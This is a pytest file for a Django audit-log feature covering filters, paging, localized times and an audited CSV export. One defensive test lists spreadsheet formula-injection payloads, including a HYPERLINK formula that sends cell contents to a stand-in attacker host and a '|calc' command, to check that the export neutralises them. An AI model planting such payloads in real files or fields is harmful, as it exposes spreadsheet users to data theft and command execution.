"""The auditor's page and API: filters by code, user and time; pages; times in three languages;
a CSV export that is itself audited and cannot carry a formula into a spreadsheet."""

import csv
import datetime as dt
import io

import pytest
from django.test import Client

from haven.audit.models import AuditAction, AuditEvent, Outcome
from haven.audit.services import audit_record
from haven.core import clock
from haven.testing.factories import actor_for, signed_in

pytestmark = pytest.mark.django_db

MOMENT = dt.datetime(2023, 9, 28, 19, 20, 51, tzinfo=dt.UTC)  # 23:20:51 in Yerevan


@pytest.fixture
def reads(users, make_household):
    """A Goris household read by the Goris registrar, refused to the Vayk one, at known times."""
    with clock.frozen_at(MOMENT - dt.timedelta(hours=2)):
        household = make_household(site="goris")
    person = household.members.get()
    for hour, role in ((1, "registrar"), (2, "registrar_vayk")):
        with clock.frozen_at(MOMENT + dt.timedelta(hours=hour)):
            signed_in(users[role]).get(f"/persons/{person.code}/")
    return household, person


def page_text(client, **params):
    response = client.get("/audit/", params)
    assert response.status_code == 200, response.content[:300]
    return response.content.decode()


def test_the_auditor_filters_by_a_person_s_code(users, reads):
    household, person = reads
    auditor = signed_in(users["auditor"])
    text = page_text(auditor, record=person.code, action="person.view")
    assert text.count("<tr><td><time") == 2
    assert "registrar-goris" in text
    assert "registrar-vayk" in text
    assert str(person.id) in text
    # The household's code finds the registration, which named the household.
    text = page_text(auditor, record=household.code.lower().replace("-", ""),
                     action="household.create")
    assert text.count("<tr><td><time") == 1
    # A code nobody has finds nothing, and says so.
    assert "No audit events match" in page_text(auditor, record="HVN-0000-0000-0000")


def test_the_auditor_filters_by_user_name_and_time(users, reads):
    auditor = signed_in(users["auditor"])
    text = page_text(auditor, user="REGISTRAR-VAYK")
    assert "registrar-vayk" in text
    assert "registrar-goris</td>" not in text
    assert "Denied" in text
    text = page_text(auditor, action="person.view", since="2023-09-29T00:00",
                     until="2023-09-29T01:00")
    assert text.count("<tr><td><time") == 1  # the Goris read at 00:20:51 local time
    assert "registrar-goris" in text


@pytest.mark.parametrize(("language", "shown"), [
    ("en", "28 Sep 2023, 23:20:51"),
    ("hy", "28.09.2023 23:20:51"),
    ("ru", "28.09.2023 23:20:51"),
])
def test_times_are_shown_to_the_second_in_each_language(users, language, shown):
    with clock.frozen_at(MOMENT):
        audit_record(actor=actor_for(users["registrar"]), action=AuditAction.LOGIN)
    client = Client(headers={"Accept-Language": language})
    client.force_login(users["auditor"])
    text = client.get("/audit/", {"action": "login"}).content.decode()
    assert f'<time datetime="2023-09-28T23:20:51+04:00">{shown}</time>' in text
    assert "p.m.:" not in text


def test_the_log_is_paged_not_cut_at_200(users):
    actor = actor_for(users["registrar"])
    for n in range(120):
        with clock.frozen_at(MOMENT + dt.timedelta(seconds=n)):
            audit_record(actor=actor, action=AuditAction.LOGIN)
    auditor = signed_in(users["auditor"])
    first = page_text(auditor, action="login")
    assert first.count("<tr><td><time") == 50
    assert "page=2" in first
    assert "Page 1" in first
    third = page_text(auditor, action="login", page="3")
    assert third.count("<tr><td><time") == 20
    assert "page=2" in third
    assert "page=4" not in third
    # The oldest event is on the last page.
    assert "23:20:51" in third


def test_the_api_pages_with_a_link_header(api, users):
    actor = actor_for(users["registrar"])
    for n in range(7):
        with clock.frozen_at(MOMENT + dt.timedelta(seconds=n)):
            audit_record(actor=actor, action=AuditAction.LOGIN)
    client = api("auditor")
    first = client.get("/audit", action="login", limit=5)
    assert first.status_code == 200
    assert len(first.json()) == 5
    assert 'page=2' in first["Link"]
    assert 'rel="next"' in first["Link"]
    second = client.get("/audit", action="login", limit=5, page=2)
    assert len(second.json()) == 2
    assert "Link" not in second
    assert {e["at"] for e in first.json()}.isdisjoint({e["at"] for e in second.json()})


def test_the_api_filters_by_code(api, reads):
    _household, person = reads
    found = api("auditor").get("/audit", record=person.code, action="person.view").json()
    assert [(e["user"], e["outcome"]) for e in found] == [("registrar-vayk", "denied"),
                                                          ("registrar-goris", "allowed")]


def export(client, **params):
    response = client.get("/audit/export.csv", params)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="haven-audit-')
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


def test_the_csv_export_holds_every_matching_event_and_is_audited(users, reads):
    _household, person = reads
    rows = export(signed_in(users["auditor"]), record=person.code)
    assert rows[0][:5] == ["time", "user", "role", "site", "action"]
    views = [r for r in rows[1:] if r[4] == "person.view"]
    assert [(r[1], r[5]) for r in views] == [("registrar-vayk", "denied"),
                                            ("registrar-goris", "allowed")]
    assert views[1][0] == "2023-09-29T00:20:51+04:00"
    assert str(person.id) in views[1][8]
    event = AuditEvent.objects.filter(action=AuditAction.AUDIT_EXPORT).get()
    assert (event.username, event.outcome) == ("auditor", Outcome.ALLOWED)


def test_the_csv_export_is_refused_and_audited_for_other_roles(users):
    response = signed_in(users["coordinator"]).get("/audit/export.csv")
    assert response.status_code == 403
    event = AuditEvent.objects.get(action=AuditAction.AUDIT_EXPORT)
    assert (event.username, event.outcome) == ("coordinator", Outcome.DENIED)


@pytest.mark.parametrize("typed", [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
    "|calc", "%0A", "  =cmd", "\ufeff=1+1", "\t=1+1",
])
def test_a_formula_typed_as_a_user_name_is_neutralised_in_the_csv(users, typed):
    """A failed login keeps what the attacker typed; the auditor's spreadsheet must not run it."""
    Client().post("/login/", {"username": typed, "password": "whatever-it-is"})
    rows = export(signed_in(users["auditor"]), action="login_failed")
    names = [r[1] for r in rows[1:]]
    assert names == ["'" + typed]


def test_ordinary_names_are_left_alone_in_the_csv(users):
    audit_record(actor=actor_for(users["registrar"]), action=AuditAction.LOGIN)
    rows = export(signed_in(users["auditor"]), action="login")
    assert rows[1][1] == "registrar-goris"
